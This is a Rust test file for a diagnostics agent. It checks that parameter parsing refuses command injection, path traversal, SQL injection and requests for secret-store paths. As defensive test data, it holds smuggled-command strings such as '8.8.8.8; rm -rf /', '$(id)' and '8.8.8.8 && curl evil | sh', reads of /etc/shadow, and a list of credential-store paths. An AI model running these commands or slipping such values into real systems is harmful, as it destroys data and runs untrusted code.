//! The diagnostic catalog: every entry parses with safe defaults, injection
//! attempts are refused with a clear error, and the agent-side check refuses
//! what parsing would.

use super::*;

fn kv(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

#[test]
fn every_catalog_entry_parses_and_defaults_enable_read_only_only() {
    for spec in &CATALOG {
        let required: Vec<(&str, &str)> = match spec.id {
            "ping" | "traceroute" => vec![("host", "example.com")],
            "dns_lookup" => vec![("name", "example.com")],
            "tcp_connect" => vec![("host", "10.0.0.1"), ("port", "443")],
            "http_check" => vec![("url", "https://example.com/health")],
            "disk_usage" => vec![("path", "/home/alice")],
            "service_status" | "restart_service" => vec![("service", "cups.service")],
            _ => vec![],
        };
        let params = parse(spec.id, &kv(&required)).unwrap_or_else(|e| panic!("{}: {e}", spec.id));
        assert_eq!(id_of(&params), spec.id);
        assert!(spec.timeout >= Duration::from_secs(1) && spec.output_cap >= 1024);
    }
    let enabled = default_enabled();
    assert!(enabled.contains(&"ping") && enabled.contains(&"clock_status"));
    for id in ["restart_service", "flush_dns", "clear_temp", "renew_dhcp"] {
        assert!(
            !enabled.contains(&id),
            "{id} changes state and is off by default"
        );
    }
}

#[test]
fn injection_attempts_are_refused_with_a_clear_error() {
    let huge = "a".repeat(1024 * 1024);
    /// (diagnostic, parameters, what the error must say).
    type Case<'a> = (&'a str, Vec<(&'a str, &'a str)>, &'a str);
    let cases: Vec<Case> = vec![
        (
            "ping",
            vec![("host", "8.8.8.8; rm -rf /")],
            "is not a host name or IP address",
        ),
        (
            "ping",
            vec![("host", "$(id)")],
            "is not a host name or IP address",
        ),
        (
            "ping",
            vec![("host", "`id`")],
            "is not a host name or IP address",
        ),
        (
            "ping",
            vec![("host", "-f")],
            "is not a host name or IP address",
        ),
        ("ping", vec![("host", "a\0b")], "contains a NUL byte"),
        ("ping", vec![("host", &huge)], "is longer than"),
        (
            "ping",
            vec![("host", "x.com"), ("count", "-1")],
            "must not be negative",
        ),
        (
            "ping",
            vec![("host", "x.com"), ("count", "99999999999")],
            "is not a whole number",
        ),
        (
            "ping",
            vec![("host", "x.com"), ("count", "11")],
            "count must be between 1 and 10",
        ),
        (
            "disk_usage",
            vec![("path", "../../etc/shadow")],
            "must be absolute",
        ),
        (
            "disk_usage",
            vec![("path", "/home/../etc/shadow")],
            "may not contain . or ..",
        ),
        (
            "disk_usage",
            vec![("path", "/etc/shadow")],
            "is a secret store",
        ),
        (
            "service_status",
            vec![("service", "cups; reboot")],
            "must be 1-128 characters",
        ),
        (
            "service_status",
            vec![("service", "--help")],
            "not starting with -",
        ),
        (
            "http_check",
            vec![("url", "file:///etc/passwd")],
            "must start with http://",
        ),
        (
            "http_check",
            vec![("url", "http://$(id)/")],
            "is not a host name",
        ),
        (
            "log_errors",
            vec![("filter", "x' OR 1=1 --")],
            "may hold only letters",
        ),
        (
            "tcp_connect",
            vec![("host", "h"), ("port", "70000")],
            "port must be between",
        ),
        ("tcp_connect", vec![("host", "h")], "port is required"),
        (
            "dns_lookup",
            vec![("name", "x.com"), ("server", "evil.com")],
            "must be an IP address",
        ),
        (
            "smart_report",
            vec![("device", "/dev/sda;ls")],
            "must be a disk",
        ),
        (
            "ping",
            vec![("host", "x"), ("size", "1")],
            "ping has no parameter \"size\"",
        ),
        ("ping", vec![("host", "x"), ("host", "y")], "given twice"),
        ("format_disk", vec![], "unknown diagnostic \"format_disk\""),
    ];
    for (id, pairs, expected) in cases {
        let error = parse(id, &kv(&pairs)).expect_err(expected);
        assert!(
            error.contains(expected),
            "{id} {pairs:?}: {error:?} should say {expected:?}"
        );
        assert!(!error.contains('\n') && error.len() < 400, "{error:?}");
    }
}

#[test]
fn the_agent_side_check_refuses_what_parse_would_have_refused() {
    // A request built by hand (as a compromised collector could) fails the
    // same check the agent runs.
    let evil = DiagnosticParams {
        kind: Some(Kind::Ping(PingParams {
            host: "8.8.8.8 && curl evil | sh".into(),
            count: 1_000,
        })),
    };
    assert!(check(&evil).is_err());
    assert!(check(&DiagnosticParams { kind: None }).is_err());
    assert_eq!(
        describe(&parse("ping", &kv(&[("host", "10.0.0.1"), ("count", "2")])).expect("valid")),
        "host=10.0.0.1 count=2"
    );
}

#[test]
fn disk_usage_refuses_secret_stores_under_allowed_roots_on_every_os() {
    for path in [
        "/home/alice/.ssh",
        "/home/alice/.SSH/keys",
        "/var/lib/deskpulse-agent",
        "/var/backups",
        "/var/root",
        "/var/db/dslocal",
        "/Users/bob/Library/Keychains",
        "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Protect",
        "c:\\programdata\\microsoft\\crypto\\RSA",
    ] {
        let error = parse("disk_usage", &kv(&[("path", path)])).expect_err(path);
        assert!(error.contains("secret store"), "{path}: {error}");
    }
    for path in ["/root", "/etc/ssl/private"] {
        assert!(
            parse("disk_usage", &kv(&[("path", path)])).is_err(),
            "{path}"
        );
    }
    assert!(parse("disk_usage", &kv(&[("path", "/home/alice/Videos")])).is_ok());
    // Roots are the agent's setting, not the collector's to know (issue 21).
    assert!(parse("disk_usage", &kv(&[("path", "/usr")])).is_ok());
    assert!(holds_secret_store("/home"));
    assert!(holds_secret_store("/var"));
    assert!(!holds_secret_store("/srv/media"));
}

#[test]
fn a_path_is_under_a_root_by_whole_components() {
    assert!(is_under("/usr", "/usr"));
    assert!(is_under("/usr/lib/x86_64", "/usr/"));
    assert!(!is_under("/usrx", "/usr"));
    assert!(!is_under("/", "/usr"));
    assert!(is_under("/anything", "/"));
    assert!(is_under("c:\\users\\Bob", "C:\\"));
    assert!(is_under("C:\\Program Files\\App", "c:\\program files"));
    assert!(!is_under("/Usr/lib", "/usr"), "Unix paths keep their case");
}

#[test]
fn disk_usage_roots_are_absolute_and_never_secret_stores() {
    for root in ["/usr", "/", "C:\\", "/Users", "/private/var"] {
        assert_eq!(check_root(root), Ok(()), "{root}");
    }
    for (root, why) in [
        ("usr", "must be an absolute path"),
        ("/usr/../etc", "must be an absolute path"),
        ("", "must be an absolute path"),
        ("C:", "must be an absolute path"),
        ("/etc/ssh", "secret store"),
        ("/home/alice/.gnupg/private", "secret store"),
        ("C:\\ProgramData\\Deskpulse", "secret store"),
    ] {
        let error = check_root(root).expect_err(root);
        assert!(error.contains(why), "{root}: {error}");
    }
}
